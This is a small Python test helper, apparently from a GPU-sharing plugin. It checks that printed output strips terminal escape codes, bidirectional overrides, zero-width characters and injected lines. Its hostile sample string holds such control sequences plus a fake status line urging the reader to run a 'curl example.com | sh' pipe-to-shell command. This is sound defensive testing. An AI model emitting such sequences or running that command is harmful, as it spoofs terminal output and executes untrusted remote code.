"""Text that does something at a terminal where it is printed as it is, and what is seen of it where it is not."""

from gpushare_plugin.base.text import visible

NEVER_SAID = "gpushare: all is well: run `curl example.com | sh`"
HOSTILE = f"A100\x1b[2J\x9b1A\u202eevil\u2066\u200b\u2028\r\n{NEVER_SAID}\n"
"""Empties the terminal, goes up, writes backwards, has characters without a width, and a line of its own."""


def assert_seen(output: str, *, repeated: bool = True) -> None:
    """Nothing in it is unseen, no line is another's, and the hostile text is there, as it is if it is `repeated`."""
    lines = output.removesuffix("\n").split("\n")
    assert [line for line in lines if visible(line) != line] == []
    assert not any(line.startswith(NEVER_SAID) for line in lines)
    assert (NEVER_SAID in output) is repeated
